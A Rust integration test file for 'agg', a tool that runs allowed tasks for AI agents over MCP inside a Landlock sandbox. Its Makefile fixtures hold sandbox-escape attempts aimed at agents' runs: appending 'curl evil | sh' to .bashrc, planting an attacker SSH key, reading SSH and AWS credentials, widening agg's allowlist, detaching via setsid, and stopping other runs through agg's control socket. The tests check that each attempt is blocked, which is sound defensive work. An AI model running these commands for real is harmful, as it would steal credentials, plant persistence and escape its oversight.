//! The sandbox of agents' runs, end to end: real `agg mcp` servers, real processes and
//! real runners (make, npm, cargo, pytest, just), on a kernel with Landlock.
//!
//! A containment test proves something only if what it attacks lies outside everything the
//! policy allows: a home under the temp dir is writable by policy and proves nothing. So
//! each [`World`] lays out separate directories of one base, which is itself in none of
//! them: agg's temp dir (`TMPDIR`), the home, the repository and a sibling of it. The tests
//! run as root in CI, where file permissions stop nothing: every attack is run again
//! outside the sandbox (`agg run`, a person's run) to show it would have worked there.

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use serde_json::{Value, json};

use crate::common::mcp::{Mcp, text};
use indoc::indoc;

/// A home, a temp dir, a repository and a sibling of it, apart.
struct World {
    _base: tempfile::TempDir,
    base: PathBuf,
    home: PathBuf,
    tmp: PathBuf,
    repo: PathBuf,
    sibling: PathBuf,
    allowlist: PathBuf,
    runtime: PathBuf,
}

/// What the attacks of the home directory find there.
const BASHRC: &str = "# the person's shell\n";
const KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- secret\n";
const AWS: &str = "[default]\naws_secret_access_key = secret\n";

impl World {
    /// A world whose repository holds `files` (`$BASE` stands for the base directory).
    fn new(files: &[(&str, &str)]) -> World {
        let dir = tempfile::tempdir().expect("base");
        let base = std::fs::canonicalize(dir.path()).expect("base");
        let home = base.join("home");
        let world = World {
            _base: dir,
            tmp: base.join("tmp"),
            repo: base.join("repo"),
            sibling: base.join("sibling"),
            allowlist: home.join(".config/agg/allowlist.toml"),
            runtime: base.join("run"),
            home,
            base,
        };
        for dir in [
            &world.tmp,
            &world.repo,
            &world.sibling,
            &world.runtime,
            &world.home.join(".ssh"),
            &world.home.join(".aws"),
            &world.home.join(".cache"),
            &world.home.join(".config/agg"),
        ] {
            std::fs::create_dir_all(dir).expect("mkdir");
        }
        for (path, text) in [
            (".bashrc", BASHRC),
            (".ssh/id_ed25519", KEY),
            (".ssh/authorized_keys", "ssh-ed25519 AAAA person\n"),
            (".aws/credentials", AWS),
            (".aws/config", "[default]\nregion = eu-west-1\n"),
        ] {
            std::fs::write(world.home.join(path), text).expect("write");
        }
        std::fs::write(world.sibling.join("notes"), "the sibling\n").expect("write");
        for (path, text) in files {
            world.write(path, text);
        }
        Command::new("git")
            .args(["init", "-q"])
            .current_dir(&world.repo)
            .status()
            .expect("git init");
        world
    }

    fn write(&self, path: &str, text: &str) {
        let full = self.repo.join(path);
        std::fs::create_dir_all(full.parent().expect("parent")).expect("mkdir");
        let text = text.replace("$BASE", &self.base.display().to_string());
        std::fs::write(full, text).expect("write");
    }

    /// The environment of agg (and so of its runs): this world's home, temp dir, allowlist
    /// and runtime directory, the person's toolchains.
    fn env(&self) -> Vec<(&'static str, OsString)> {
        let real_home = std::env::var_os("HOME").unwrap_or_default();
        let rustup = std::env::var_os("RUSTUP_HOME")
            .unwrap_or_else(|| Path::new(&real_home).join(".rustup").into_os_string());
        vec![
            ("HOME", self.home.clone().into_os_string()),
            ("TMPDIR", self.tmp.clone().into_os_string()),
            ("RUSTUP_HOME", rustup),
            ("XDG_RUNTIME_DIR", self.runtime.clone().into_os_string()),
            ("AGG_ALLOWLIST", self.allowlist.clone().into_os_string()),
        ]
    }

    /// `agg ARGS…` in the repository, as a person runs it.
    fn agg(&self, args: &[&str]) -> Output {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_agg"));
        cmd.args(args)
            .current_dir(&self.repo)
            .env("NO_COLOR", "1")
            .stdin(std::process::Stdio::null());
        for var in [
            "XDG_CACHE_HOME",
            "XDG_CONFIG_HOME",
            "XDG_STATE_HOME",
            "XDG_DATA_HOME",
        ] {
            cmd.env_remove(var);
        }
        cmd.envs(self.env());
        cmd.output().expect("agg")
    }

    /// `agg allow ARGS…`, which must succeed.
    fn allow(&self, args: &[&str]) {
        let mut all = vec!["allow"];
        all.extend(args);
        let out = self.agg(&all);
        assert!(out.status.success(), "agg {all:?}: {}", stderr(&out));
    }

    /// `agg mcp` on the repository, every task allowed with `options`.
    async fn serve(&self, options: &[&str]) -> Mcp {
        let repo = self.repo.display().to_string();
        let mut args = vec!["--dir", repo.as_str()];
        args.extend(options);
        self.allow(&args);
        let mut env = self.env();
        env.push(("XDG_CACHE_HOME", self.home.join(".cache").into_os_string()));
        env.push((
            "XDG_CONFIG_HOME",
            self.home.join(".config").into_os_string(),
        ));
        env.push((
            "XDG_STATE_HOME",
            self.home.join(".local/state").into_os_string(),
        ));
        Mcp::connect_to(
            self.repo.clone(),
            self.allowlist.clone(),
            self.runtime.clone(),
            &env,
            Vec::new(),
        )
        .await
    }
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// `task_start` of `name`, waited for: its structured result.
async fn start(mcp: &Mcp, name: &str) -> Value {
    mcp.task_start(json!({"unique_name": name, "wait_ms": 60_000}))
        .await
}

/// Asserts the run ended with exit code 0.
fn passed(result: &Value) {
    assert_eq!(result["exit_code"], 0, "{result:#}");
}

/// Asserts the run failed.
fn failed(result: &Value) {
    assert_eq!(result["passed"], false, "{result:#}");
}

/// What a file holds now (`None`: it does not exist).
fn contents(path: &Path) -> Option<Vec<u8>> {
    std::fs::read(path).ok()
}

/// The attacks on what lies outside the policy: each a make target, and the file it
/// tries to change.
fn attacks(world: &World) -> Vec<(&'static str, PathBuf)> {
    vec![
        ("bashrc", world.home.join(".bashrc")),
        ("authorized-keys", world.home.join(".ssh/authorized_keys")),
        (
            "etc",
            PathBuf::from(format!("/etc/agg-sandbox-{}", std::process::id())),
        ),
        ("sibling", world.sibling.join("notes")),
        ("allowlist", world.allowlist.clone()),
        ("through-link", world.home.join(".bashrc")),
        ("history", world.home.join(".local/state/agg/planted")),
    ]
}

const ATTACKS: &str = "\
bashrc:
\techo 'curl evil | sh' >> $(HOME)/.bashrc
authorized-keys:
\techo 'ssh-ed25519 AAAA attacker' >> $(HOME)/.ssh/authorized_keys
etc:
\techo pwned > /etc/agg-sandbox-$(PID)
sibling:
\techo pwned >> ../sibling/notes
allowlist:
\tprintf '[[allow]]\\ndir = \"/\"\\n' >> $$AGG_ALLOWLIST
through-link:
\techo 'curl evil | sh' >> rc-link
history:
\tmkdir -p $(HOME)/.local/state/agg && echo planted > $(HOME)/.local/state/agg/planted
key:
\tcat $(HOME)/.ssh/id_ed25519
aws:
\tcat $(HOME)/.aws/credentials
";

#[tokio::test(flavor = "multi_thread")]
async fn an_allowed_task_cannot_change_anything_outside_the_policy() {
    require!("make");
    let world = World::new(&[(
        "Makefile",
        &ATTACKS.replace("$(PID)", &std::process::id().to_string()),
    )]);
    std::os::unix::fs::symlink(world.home.join(".bashrc"), world.repo.join("rc-link"))
        .expect("link");
    // The person's rule may even let it write their whole config directory: agg's own
    // allowlist in it stays out of reach.
    let config = world.home.join(".config").display().to_string();
    let mcp = world.serve(&["--write", &config]).await;
    let targets = attacks(&world);
    let before: Vec<Option<Vec<u8>>> = targets.iter().map(|(_, p)| contents(p)).collect();
    for (name, path) in &targets {
        let result = start(&mcp, name).await;
        failed(&result);
        assert_eq!(result["sandbox"]["policy"], "default", "{result:#}");
        let now = contents(path);
        let was = &before[targets.iter().position(|(n, _)| n == name).unwrap_or(0)];
        assert_eq!(&now, was, "{name} changed {}", path.display());
    }
    // Reading a secret fails, and its contents reach neither the result nor the model.
    for (name, secret) in [("key", KEY), ("aws", AWS)] {
        let result = mcp
            .call(
                "task_start",
                json!({"unique_name": name, "wait_ms": 60_000}),
            )
            .await;
        let structured = result.structured_content.clone().unwrap_or_default();
        failed(&structured);
        assert!(!text(&result).contains(secret.trim()), "{}", text(&result));
    }
    // Inside the config directory the rule opened, a file of the person's is writable.
    std::fs::write(world.home.join(".config/other"), "x").expect("write");
    mcp.close().await;

    // Outside the sandbox (a person's `agg run`), every attack works: the file system's own
    // permissions did not stop them above.
    for (name, path) in &targets {
        let out = world.agg(&["run", name]);
        assert!(out.status.success(), "agg run {name}: {}", stderr(&out));
        assert_ne!(
            &contents(path),
            &before[targets.iter().position(|(n, _)| n == name).unwrap_or(0)],
            "{name}"
        );
    }
    let _ = std::fs::remove_file(format!("/etc/agg-sandbox-{}", std::process::id()));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_process_that_escapes_the_group_or_execs_a_static_binary_is_still_confined() {
    require!("make", "cc", "setsid");
    let world = World::new(&[
        (
            "writer.c",
            "#include <stdio.h>\n\
             int main(int argc, char **argv) {\n\
               FILE *f = fopen(argv[1], \"a\");\n\
               if (!f) { perror(argv[1]); return 1; }\n\
               fputs(\"pwned\\n\", f);\n\
               return fclose(f) != 0;\n\
             }\n",
        ),
        (
            "Makefile",
            // Each writes its attempt's exit code where the run may write: the double-forked
            // process, orphaned but in the job's group, while the job waits for it; the one in
            // a session of its own after the job ended (the job waits until it is detached, or
            // agg's end of the job's group could reach it first); the static binary the job
            // built.
            "\
double-fork:
\t( ( sleep 0.5; echo pwned >> $(HOME)/.bashrc; echo $$? > $$TMPDIR/double-fork ) & ) ; \
\twhile [ ! -s $$TMPDIR/double-fork ]; do sleep 0.1; done
setsid:
\tsetsid sh -c ': > $$TMPDIR/detached; sleep 0.5; echo pwned >> $(HOME)/.bashrc; echo $$? > $$TMPDIR/setsid' < /dev/null > /dev/null 2>&1 & \
\twhile [ ! -e $$TMPDIR/detached ]; do sleep 0.05; done
static:
\tcc -static -o writer writer.c && ./writer $(HOME)/.bashrc; echo $$? > $$TMPDIR/static
",
        ),
    ]);
    let mcp = world.serve(&[]).await;
    for name in ["double-fork", "setsid", "static"] {
        start(&mcp, name).await;
        let marker = world.tmp.join(name);
        crate::common::eventually(Duration::from_secs(10), name, || {
            std::fs::read_to_string(&marker).is_ok_and(|s| s.ends_with('\n'))
        })
        .await;
        let code = std::fs::read_to_string(&marker).unwrap_or_default();
        assert_ne!(code.trim(), "0", "{name} could write");
        assert_eq!(
            contents(&world.home.join(".bashrc")).as_deref(),
            Some(BASHRC.as_bytes()),
            "{name}"
        );
    }
    // The binary the run built is static: no loader, no libc of the system's, confined all
    // the same.
    let ldd = Command::new("ldd").arg(world.repo.join("writer")).output();
    if let Ok(ldd) = ldd {
        let said = format!("{}{}", String::from_utf8_lossy(&ldd.stdout), stderr(&ldd));
        assert!(said.contains("not a dynamic executable"), "{said}");
    }
    mcp.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn writes_in_the_repository_the_temp_dir_and_the_caches_succeed() {
    require!("make");
    let world = World::new(&[(
        "Makefile",
        "\
write:
\tmkdir -p build && echo ok > build/out
\techo ok > $$TMPDIR/run-file && mkdir -p $$TMPDIR/new-dir
\tmkdir -p $(HOME)/.cache/a-new-tool && echo ok > $(HOME)/.cache/a-new-tool/entry
\techo ok > /dev/null
\tmkdir -p $BASE/granted/deeper && echo ok > $BASE/granted/deeper/file
\tcat $(HOME)/.aws/config
",
    )]);
    let granted = world.base.join("granted").display().to_string();
    let aws = world.home.join(".aws/config").display().to_string();
    let mcp = world
        .serve(&["--write", &granted, "--read-secret", &aws])
        .await;
    let result = start(&mcp, "write").await;
    passed(&result);
    assert_eq!(result["sandbox"]["write"], json!([granted]), "{result:#}");
    assert_eq!(result["sandbox"]["read_secret"], json!([aws]), "{result:#}");
    for path in [
        world.repo.join("build/out"),
        world.tmp.join("run-file"),
        world.home.join(".cache/a-new-tool/entry"),
        world.base.join("granted/deeper/file"),
    ] {
        assert!(path.is_file(), "{}", path.display());
    }
    mcp.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_model_is_told_which_path_was_denied_and_what_the_person_could_allow() {
    require!("make");
    let world = World::new(&[("Makefile", ATTACKS)]);
    let mcp = world.serve(&[]).await;
    let result = start(&mcp, "bashrc").await;
    let bashrc = world.home.join(".bashrc").display().to_string();
    assert_eq!(
        result["sandbox"]["denied"],
        json!([{"path": bashrc, "allow": format!("agg allow bashrc --write {bashrc}")}]),
        "{result:#}"
    );
    let full = mcp
        .call(
            "task_start",
            json!({"unique_name": "bashrc", "wait_ms": 60_000}),
        )
        .await;
    assert!(
        text(&full).contains(&format!("denied by the sandbox: {bashrc}")),
        "{}",
        text(&full)
    );
    // A secret is named as one, with nothing to run.
    let result = start(&mcp, "key").await;
    let key = world.home.join(".ssh/id_ed25519").display().to_string();
    assert_eq!(
        result["sandbox"]["denied"],
        json!([{"path": key, "secret": true}]),
        "{result:#}"
    );
    // The status of a run says it too.
    let status = mcp
        .ok("task_status", json!({"run_id": result["run_id"]}))
        .await;
    assert_eq!(status["sandbox"]["denied"][0]["path"], key, "{status:#}");
    mcp.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_run_cannot_signal_agg() {
    require!("make");
    let world = World::new(&[(
        "Makefile",
        "kill-agg:\n\tkill -TERM $$(cat $BASE/agg.pid); echo kill=$$?\n",
    )]);
    let mcp = world.serve(&[]).await;
    std::fs::write(world.base.join("agg.pid"), mcp.server_pid.to_string()).expect("pid");
    let result = mcp
        .call(
            "task_start",
            json!({"unique_name": "kill-agg", "wait_ms": 60_000}),
        )
        .await;
    assert!(text(&result).contains("kill=1"), "{}", text(&result));
    // agg is still there, and answers.
    mcp.list_tasks(json!({})).await;
    assert!(crate::common::alive(mcp.server_pid));
    mcp.close().await;
}

/// A run that finds agg's control socket and asks it to stop the other runs.
const STOP_OTHERS: &str = "\
import glob, json, os, socket
for path in glob.glob(os.environ['XDG_RUNTIME_DIR'] + '/agg/*.sock'):
    name = open(path).read()
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect('\\0' + name)
    except OSError as e:
        print('control refused:', e)
        continue
    s.sendall(json.dumps({'op': 'ps'}).encode() + b'\\n')
    for job in json.loads(s.makefile().readline()).get('jobs', []):
        t = socket.socket(socket.AF_UNIX)
        t.connect('\\0' + name)
        t.sendall(json.dumps({'op': 'stop', 'run_id': job['run_id'], 'grace_ms': 0}).encode() + b'\\n')
        print('stopped', job['run_id'], t.makefile().readline())
";

/// The control socket of `agg mcp` is an abstract one, which Landlock keeps sandboxed runs
/// from reaching: a run that knows its name still cannot list or stop the server's other
/// runs, and the person's `agg ps` sees them.
#[tokio::test(flavor = "multi_thread")]
async fn a_run_cannot_reach_agg_s_control_socket() {
    require!("make", "python3");
    let world = World::new(&[
        (
            "Makefile",
            indoc! {"
                idle:
                \t@echo idle; sleep 300
                stop-others:
                \tpython3 stop.py
            "},
        ),
        ("stop.py", STOP_OTHERS),
    ]);
    let mcp = world.serve(&[]).await;
    let idle = mcp
        .task_start(json!({"unique_name": "idle", "wait_ms": 0}))
        .await;
    let run_id = idle["run_id"].as_str().expect("run_id").to_owned();
    let result = mcp
        .call(
            "task_start",
            json!({"unique_name": "stop-others", "wait_ms": 60_000}),
        )
        .await;
    let said = text(&result);
    assert!(said.contains("control refused"), "{said}");
    assert!(!said.contains("stopped"), "{said}");
    let status = mcp.ok("task_status", json!({"run_id": run_id})).await;
    assert_eq!(status["state"], "running", "{status}");
    // The person reaches it, from outside the sandbox.
    let ps = world.agg(&["ps"]);
    assert!(
        String::from_utf8_lossy(&ps.stdout).contains(&run_id),
        "{}{}",
        String::from_utf8_lossy(&ps.stdout),
        stderr(&ps)
    );
    // The same run outside the sandbox (the person's explicit opt-out) does reach it: the
    // refusal above is the sandbox's.
    world.allow(&["stop-others", "--no-sandbox"]);
    let result = mcp
        .call(
            "task_start",
            json!({"unique_name": "stop-others", "wait_ms": 60_000}),
        )
        .await;
    let said = text(&result);
    assert!(said.contains(&format!("stopped {run_id}")), "{said}");
    mcp.close().await;
}

/// A Python client of a server on 127.0.0.1, and a UDP socket.
const NET: &str = "\
import socket, sys
port = int(sys.argv[1])
try:
    socket.create_connection(('127.0.0.1', port), timeout=5).close()
    print('tcp connected')
except OSError as e:
    print('tcp refused:', e)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
    print('udp opened')
except OSError as e:
    print('udp refused:', e)
try:
    s = socket.socket()
    s.listen()
    print('listening')
except OSError as e:
    print('listen refused:', e)
";

#[tokio::test(flavor = "multi_thread")]
async fn offline_cuts_the_network_and_the_default_keeps_it() {
    require!("make", "python3");
    let server = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = server.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for stream in server.incoming() {
            drop(stream);
        }
    });
    let makefile = format!("net:\n\tpython3 net.py {port}\n");
    for (options, expected) in [
        (&[][..], ["tcp connected", "udp opened", "listening"]),
        (
            &["--offline"][..],
            ["tcp refused", "udp refused", "listen refused"],
        ),
    ] {
        let world = World::new(&[("Makefile", &makefile), ("net.py", NET)]);
        let mcp = world.serve(options).await;
        let result = mcp
            .call(
                "task_start",
                json!({"unique_name": "net", "wait_ms": 60_000}),
            )
            .await;
        let said = text(&result);
        for part in expected {
            assert!(said.contains(part), "{options:?}: {said}");
        }
        mcp.close().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_runners_pass_unchanged_in_the_sandbox() {
    require!("make", "npm", "cargo", "pytest", "just");
    let world = World::new(&[
        (
            "Makefile",
            "build:\n\tmkdir -p build && cc -o build/hello hello.c && ./build/hello\n",
        ),
        (
            "hello.c",
            "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n",
        ),
        (
            "package.json",
            r#"{"name": "app", "version": "1.0.0", "scripts": {"test": "node --test"}}"#,
        ),
        (
            "test/app.test.js",
            "const test = require('node:test');\n\
             const fs = require('node:fs');\n\
             const os = require('node:os');\n\
             test('writes', () => {\n\
               fs.mkdtempSync(require('node:path').join(os.tmpdir(), 'app-'));\n\
               fs.writeFileSync('out.txt', 'ok');\n\
             });\n",
        ),
        (
            "Cargo.toml",
            indoc! {"
                [package]
                name = \"app\"
                version = \"0.1.0\"
                edition = \"2021\"
            "},
        ),
        ("src/main.rs", "fn main() { println!(\"built\"); }\n"),
        (
            "pyproject.toml",
            indoc! {"
                [project]
                name = \"app\"
                version = \"0\"
            "},
        ),
        (
            "test_app.py",
            indoc! {"
                import tempfile

                def test_writes(tmp_path):
                    (tmp_path / 'f').write_text('x')
                    with tempfile.NamedTemporaryFile() as f:
                        f.write(b'x')
            "},
        ),
        ("justfile", "greet:\n    echo hello from just > just.out\n"),
    ]);
    // cargo's registry under the world's home, as a person's first build would make it.
    let mcp = world.serve(&[]).await;
    for (name, args) in [
        ("build", json!([])),
        ("test", json!([])),
        ("greet", json!([])),
    ] {
        let result = mcp
            .task_start(json!({"unique_name": name, "args": args, "wait_ms": 120_000}))
            .await;
        passed(&result);
    }
    assert!(world.repo.join("build/hello").is_file());
    assert!(world.repo.join("out.txt").is_file());
    assert!(world.repo.join("just.out").is_file());
    mcp.close().await;
    // cargo and pytest through tasks of their own runners' kind: a Makefile's targets.
    world.write(
        "Makefile",
        indoc! {"
            cargo-build:
            \tcargo build --offline
            pytest:
            \tpytest -q test_app.py
        "},
    );
    let mcp = world.serve(&[]).await;
    for name in ["cargo-build", "pytest"] {
        let result = start(&mcp, name).await;
        passed(&result);
    }
    assert!(world.repo.join("target/debug/app").is_file());
    mcp.close().await;
}

#[test]
fn the_person_sees_the_policy_and_loopback_is_refused_with_the_reason() {
    let world = World::new(&[(
        "Makefile",
        indoc! {"
        build:
        \ttrue
        risky:
        \ttrue
    "},
    )]);
    world.allow(&["build", "--offline"]);
    world.allow(&["risky", "--no-sandbox"]);
    let out = world.agg(&["allowlist"]);
    let listed = String::from_utf8_lossy(&out.stdout);
    assert!(listed.contains("sandbox: offline"), "{listed}");
    assert!(listed.contains("NOT SANDBOXED"), "{listed}");
    let described = world.agg(&["describe", "build"]);
    assert!(
        String::from_utf8_lossy(&described.stdout)
            .contains("sandbox      sandboxed (offline): writes only in the repository"),
        "{}",
        String::from_utf8_lossy(&described.stdout)
    );
    let refused = world.agg(&["allow", "build", "--loopback"]);
    assert!(!refused.status.success());
    assert!(
        stderr(&refused).contains("--loopback is not offered"),
        "{}",
        stderr(&refused)
    );
    // agg's own files are never a --write path.
    let own = world.home.join(".config/agg").display().to_string();
    let refused = world.agg(&["allow", "build", "--write", &own]);
    assert!(!refused.status.success());
    assert!(
        stderr(&refused).contains("agg's own"),
        "{}",
        stderr(&refused)
    );
}

#[test]
fn agg_run_sandbox_runs_a_task_as_an_agent_would() {
    require!("make");
    let world = World::new(&[("Makefile", ATTACKS)]);
    let out = world.agg(&["run", "--sandbox", "bashrc"]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("sandboxed (default)"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        contents(&world.home.join(".bashrc")).as_deref(),
        Some(BASHRC.as_bytes())
    );
    assert!(world.agg(&["run", "bashrc"]).status.success());
}

/// Runs its arguments inside 16 nested Landlock domains, the most the kernel stacks: no
/// process in there can be sandboxed again, as on a system without Landlock.
const NO_MORE_LAYERS: &str = "\
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
class Attr(ctypes.Structure):
    _fields_ = [('fs', ctypes.c_uint64)]
attr = Attr(1 << 11)
assert libc.prctl(38, 1, 0, 0, 0) == 0
for _ in range(16):
    fd = libc.syscall(444, ctypes.byref(attr), ctypes.sizeof(attr), 0)
    assert fd >= 0, ctypes.get_errno()
    assert libc.syscall(446, fd, 0) == 0, ctypes.get_errno()
    os.close(fd)
os.execv(sys.argv[1], sys.argv[1:])
";

#[tokio::test(flavor = "multi_thread")]
async fn where_runs_cannot_be_sandboxed_they_are_refused_unless_the_person_said_so() {
    require!("python3", "make");
    let world = World::new(&[(
        "Makefile",
        indoc! {"
        build:
        \techo built
        risky:
        \techo ran
    "},
    )]);
    world.allow(&["--dir", &world.repo.display().to_string()]);
    world.allow(&["risky", "--no-sandbox"]);
    let mut command = tokio::process::Command::new("python3");
    command
        .args([
            "-c",
            NO_MORE_LAYERS,
            env!("CARGO_BIN_EXE_agg"),
            "mcp",
            "--root",
        ])
        .arg(&world.repo)
        .envs(world.env());
    let (client, _events, _pid) = crate::common::mcp::connect(
        command,
        std::process::Stdio::inherit(),
        rmcp::ClientLifecycleMode::Initialize,
    )
    .await;
    let instructions = client
        .peer_info()
        .and_then(|i| i.instructions.clone())
        .unwrap_or_default();
    assert!(
        instructions.contains("This machine cannot sandbox runs"),
        "{instructions}"
    );
    let refused =
        crate::common::mcp::call_tool(&client, "task_start", json!({"unique_name": "build"})).await;
    assert_eq!(refused.is_error, Some(true));
    let said = text(&refused);
    assert!(said.contains("error -32018"), "{said}");
    assert!(said.contains("--no-sandbox"), "{said}");
    let ran = crate::common::mcp::call_tool(
        &client,
        "task_start",
        json!({"unique_name": "risky", "wait_ms": 30_000}),
    )
    .await;
    let result = ran.structured_content.clone().unwrap_or_default();
    passed(&result);
    assert_eq!(result["sandbox"], json!({"policy": "none"}), "{result:#}");
    let _ = client.cancel().await;
}
